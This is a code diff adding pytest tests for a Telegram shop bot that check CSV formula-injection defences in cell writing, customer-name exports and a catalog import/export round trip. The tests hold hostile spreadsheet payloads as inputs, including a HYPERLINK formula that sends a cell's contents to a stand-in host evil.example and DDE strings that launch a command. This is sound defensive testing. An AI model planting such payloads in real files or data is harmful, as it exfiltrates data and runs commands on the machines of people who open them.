@@ -4,6 +4,7 @@ characters, UTF-16 lengths, secrets and settings."""
 
 from __future__ import annotations
 
+import csv
 import io
 import logging
 import os
@@ -15,6 +16,7 @@ from pathlib import Path
 import pytest
 from pydantic import SecretStr
 
+from bot import csv_safe
 from bot.app import App, create_app
 from bot.cli import main
 from bot.clock import ManualClock
@@ -22,7 +24,7 @@ from bot.config import Settings
 from bot.logs import install, redact
 from jobs.runner import advance
 from storage.repositories import Repos
-from tests.care_helpers import add_customer, enqueue, outbox
+from tests.care_helpers import add_customer, add_product, enqueue, outbox
 from tests.tickets_helpers import add_order, file_complaint
 from bot.fake_telegram import FakeTelegram, FakeUser
 from tests.conftest import STAFF_CHAT_ID, register
@@ -270,3 +272,55 @@ async def test_staff_tools_show_nothing_in_another_group(app: App, world: FakeTe
     assert "Mei Lin" in world.last(STAFF_CHAT_ID).text
     await staff.in_chat(staff.id).send("/ticket 1")
     assert any("torn" in (m.text or "") for m in world.sent(staff.id))
+
+
+# ----- 10. CSV formula injection ---------------------------------------------------------------------
+
+def test_csv_cells_that_look_like_formulas_are_neutralised_and_numbers_stay() -> None:
+    buffer = io.StringIO()
+    writer = csv_safe.writer(buffer, lineterminator="\r\n")
+    writer.writerow([-2, 3.5, "-2", "-12.50", "=1+1", "+cmd", "@SUM(A1)", "-2+3", "\t=1", "\r=1", "Mei", None])
+    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [
+        "-2", "3.5", "-2", "-12.50", "'=1+1", "'+cmd", "'@SUM(A1)", "'-2+3", "'\t=1", "'\r=1", "Mei", ""]
+    for cell in ("=1+1", "+cmd|calc", "\t=1", "\r=1", "-2+3", "plain", "'quoted"):
+        buffer = io.StringIO()
+        csv_safe.writer(buffer).writerow([cell])
+        assert csv_safe.unneutralise(next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))[0]) == cell
+
+
+EVIL_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+              "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
+
+
+async def test_export_neutralises_customer_names(app: App, manager: FakeUser) -> None:
+    product = await add_product(app)
+    for n, name in enumerate(EVIL_NAMES):
+        customer_id = await add_customer(app, 400_000 + n, name=name)
+        await add_order(app, 400_000 + n, 4500, app.clock.now() - timedelta(days=3))
+    [document] = await manager.send("/export abc")
+    assert document.file is not None
+    rows = list(csv.reader(io.StringIO(document.file.decode("utf-8-sig"))))
+    names = {row[1] for row in rows[1:]}
+    # defusedcsv also writes the | of such a cell as \| (no DDE link either).
+    assert names == {"'" + (name.replace("|", "\\|") if name[0] != "\t" else name) for name in EVIL_NAMES}
+    assert all(row[2].isdigit() and row[3].isdigit() for row in rows[1:])  # numbers stay numbers
+    assert product and customer_id
+
+
+def test_report_and_catalog_csv_on_the_command_line_are_neutralised(bare_env: Path,
+                                                                     capsys: pytest.CaptureFixture[str],
+                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{bare_env / 'db.sqlite3'}")
+    (bare_env / "in.csv").write_text("sku,name_en,name_zh,category,unit,price\n"
+                                     "X1,\"=HYPERLINK(\"\"http://evil\"\")\",米,rice,bag,1.00\n"
+                                     "X2,-2+3,米,rice,bag,2.00\n", encoding="utf-8")
+    assert main(["catalog", "import", "in.csv"]) == 0
+    assert main(["catalog", "export", "out.csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO((bare_env / "out.csv").read_text(encoding="utf-8"))))
+    assert {r["sku"]: r["name_en"] for r in rows if r["sku"] in ("X1", "X2")} == {
+        "X1": "'=HYPERLINK(\"http://evil\")", "X2": "'-2+3"}
+    assert {r["sku"]: r["price"] for r in rows if r["sku"] in ("X1", "X2")} == {"X1": "1.00", "X2": "2.00"}
+    # Imported again, the export gives the same names back (the ' is taken off).
+    assert main(["catalog", "import", "out.csv"]) == 0
+    assert main(["catalog", "export", "again.csv"]) == 0
+    assert (bare_env / "again.csv").read_text(encoding="utf-8") == (bare_env / "out.csv").read_text(encoding="utf-8")
